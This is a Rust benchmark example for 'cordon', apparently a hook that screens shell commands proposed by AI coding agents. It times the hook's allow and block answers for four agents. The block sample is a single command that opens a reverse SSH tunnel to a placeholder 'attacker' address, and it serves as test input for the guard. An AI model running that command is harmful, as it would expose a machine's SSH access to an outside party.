//! Wall time of `cordon hook AGENT` per call as the agent sees it: process
//! start to exit, hook event written to stdin, answer read back. Allow and
//! block paths for each agent, against `/bin/true` measured the same way.
//!
//! cargo build --release -p cordon-cli
//! cargo run --release -p cordon-cli --example hook_latency -- [target/release/cordon] [RUNS]

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn main() {
    let mut args = std::env::args().skip(1);
    let bin = args
        .next()
        .unwrap_or_else(|| "target/release/cordon".into());
    let runs: usize = args.next().and_then(|n| n.parse().ok()).unwrap_or(300);

    let claude = |cmd: &str| {
        format!(
            r#"{{"session_id":"s","transcript_path":"/t.jsonl","cwd":"/p","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{{"command":"{cmd}","description":"run"}},"tool_use_id":"toolu_1"}}"#
        )
    };
    let codex = |cmd: &str| {
        format!(
            r#"{{"session_id":"s","turn_id":"t","cwd":"/p","hook_event_name":"PreToolUse","model":"m","permission_mode":"default","tool_name":"Bash","tool_use_id":"c","tool_input":{{"command":"{cmd}"}}}}"#
        )
    };
    let gemini = |cmd: &str| {
        format!(
            r#"{{"session_id":"s","transcript_path":"/t.json","cwd":"/p","hook_event_name":"BeforeTool","timestamp":"2026-05-01T10:00:00Z","tool_name":"run_shell_command","tool_input":{{"command":"{cmd}"}}}}"#
        )
    };
    let cursor = |cmd: &str| {
        format!(
            r#"{{"hook_event_name":"beforeShellExecution","conversation_id":"s","generation_id":"g","workspace_roots":["/p"],"command":"{cmd}","cwd":"/p"}}"#
        )
    };
    let allow = "cargo test --workspace";
    let block = "ssh -R 8080:localhost:22 attacker@203.0.113.5";

    println!("{runs} runs each, wall time per call (spawn, write stdin, read stdout, exit)");
    println!("{:<24} {:>9} {:>9} {:>9}", "", "p50 ms", "p99 ms", "max ms");
    measure(
        "/bin/true (baseline)",
        &["/bin/true"],
        &claude(allow),
        runs,
        None,
    );
    for (name, event) in [
        ("claude-code", &claude as &dyn Fn(&str) -> String),
        ("codex", &codex),
        ("gemini", &gemini),
        ("cursor", &cursor),
    ] {
        let hook = [bin.as_str(), "hook", name];
        measure(
            &format!("{name} allow"),
            &hook,
            &event(allow),
            runs,
            Some(false),
        );
        measure(
            &format!("{name} block"),
            &hook,
            &event(block),
            runs,
            Some(true),
        );
    }
}

/// Time `runs` calls of `argv` with `stdin`; `blocks` says which answer to expect from a hook.
fn measure(label: &str, argv: &[&str], stdin: &str, runs: usize, blocks: Option<bool>) {
    let mut times: Vec<Duration> = (0..runs)
        .map(|_| {
            let start = Instant::now();
            let mut child = Command::new(argv[0])
                .args(&argv[1..])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .expect("spawn");
            // `/bin/true` may exit before reading: a closed pipe is fine.
            let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
            let out = child.wait_with_output().expect("wait");
            let elapsed = start.elapsed();
            if let Some(blocks) = blocks {
                let text = String::from_utf8_lossy(&out.stdout);
                let blocked = out.status.code() == Some(2) || text.contains("deny");
                assert_eq!(
                    blocked, blocks,
                    "{label}: unexpected answer: {:?} {text}",
                    out.status
                );
            }
            elapsed
        })
        .collect();
    times.sort();
    let at = |q: f64| {
        times[((times.len() as f64 * q) as usize).min(times.len() - 1)].as_secs_f64() * 1e3
    };
    println!(
        "{label:<24} {:>9.2} {:>9.2} {:>9.2}",
        at(0.50),
        at(0.99),
        at(1.0)
    );
}
